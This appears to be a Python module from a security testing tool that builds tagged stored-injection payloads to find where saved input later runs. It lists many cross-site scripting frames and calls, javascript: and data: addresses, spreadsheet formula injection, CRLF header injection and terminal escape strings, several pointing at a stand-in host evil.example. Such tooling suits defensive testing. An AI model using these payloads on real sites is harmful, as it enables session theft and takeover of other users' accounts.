"""Ways to smuggle a script, a formula or a line into what is stored; each bears the place it was stored at."""

from __future__ import annotations

import re
from itertools import product

CALLS = ["alert(1)", "confirm`1`", "top['al'+'ert'](1)", "window.open('//evil.example')", "eval('alert(1)')"]
FRAMES = [
    "<script {m}>{c}</script>", "<ScRiPt {m}>{c}</sCrIpT>", "\"><script {m}>{c}</script>",
    "'><script {m}>{c}</script>", "<img {m} src=//evil.example/x onerror={c}>",
    "<img src=x {m} onerror=\"{c}\">", "\"><img/src=x {m} onerror={c}>", "<svg {m} onload={c}>",
    "<svg><script {m}>{c}</script></svg>", "<body {m} onload={c}>",
    "<iframe {m} src=\"javascript:{c}\"></iframe>", "<iframe {m} srcdoc=\"<script>{c}</script>\"></iframe>",
    "<a {m} href=\"javascript:{c}\" autofocus>x</a>", "\" {m} onfocus={c} autofocus x=\"",
    "<details {m} open ontoggle={c}>", "<video {m}><source onerror={c}></video>",
    "<math><a {m} xlink:href=\"javascript:{c}\">x</a></math>", "<object {m} data=\"javascript:{c}\"></object>",
    "<embed {m} src=\"javascript:{c}\">", "<form {m} action=\"javascript:{c}\"><button>x</button></form>",
    "<style {m}>@import '//evil.example/{c}';</style>", "<link {m} rel=stylesheet href=\"//evil.example/{c}\">",
    "<meta {m} http-equiv=refresh content=\"0;url=//evil.example/{c}\">",
    "<base {m} href=\"//evil.example/{c}/\">",
    "</textarea><script {m}>{c}</script>", "</title><script {m}>{c}</script>",
    "</script><script {m}>{c}</script>", "</template><script {m}>{c}</script>",
    "{{{{constructor.constructor('{c} {m}')()}}}}", "${{{c}}} {m}", "<!--><script {m}>{c}</script>-->",
    "<noscript><p title=\"</noscript><img {m} src=x onerror={c}>\">", "[x](javascript:{c}) {m}",
]  # fmt: skip
ADDRESSES = [
    "javascript:{c}//{m}", "JaVaScRiPt:{c}//{m}", "\tjavascript:{c}//{m}", "java\nscript:{c}//{m}",
    "data:text/html,<script {m}>{c}</script>", "vbscript:{c}//{m}", "//evil.example/{m}", "\\\\evil.example\\{m}",
]  # fmt: skip
LINES = [
    "=HYPERLINK(\"//evil.example\") {m}", "@SUM(1) {m}", "+1 {m}", "-1 {m}", "\r\nSet-Cookie: a=b {m}",
    "\x1b[2J\x1b]0;{m}\x07", "\u2028\u2029\u202e{m}",
]  # fmt: skip
SHAPES = [frame.replace("{c}", call) for frame, call in product(FRAMES, CALLS)]
SHAPES += [shape.replace("{c}", CALLS[0]) for shape in ADDRESSES] + LINES
FOUND = re.compile(r"x-p=[\"']?([0-9a-z]+)\.(\d+)")
UNREADABLE = dict.fromkeys(map(ord, "\r\x1b\x07\u202e"))
"""What is refused at the door, and in a scheme even when it is read."""
MARKED = "[x-p]"
"""What finds an element that came of a payload."""


def payload(number: int, place: str) -> str:
    """Return one payload that was stored at the place, a short word."""
    words = SHAPES[number % len(SHAPES)].replace("{m}", f"x-p={place}.{number % len(SHAPES)}")
    return words.replace("{{", "{").replace("}}", "}")


def all_from(number: int, place: str) -> str:
    """Return every payload in one string that begins with this one: of what is cut, its beginning is seen."""
    return " ".join(payload(number + step, place) for step in range(len(SHAPES)))
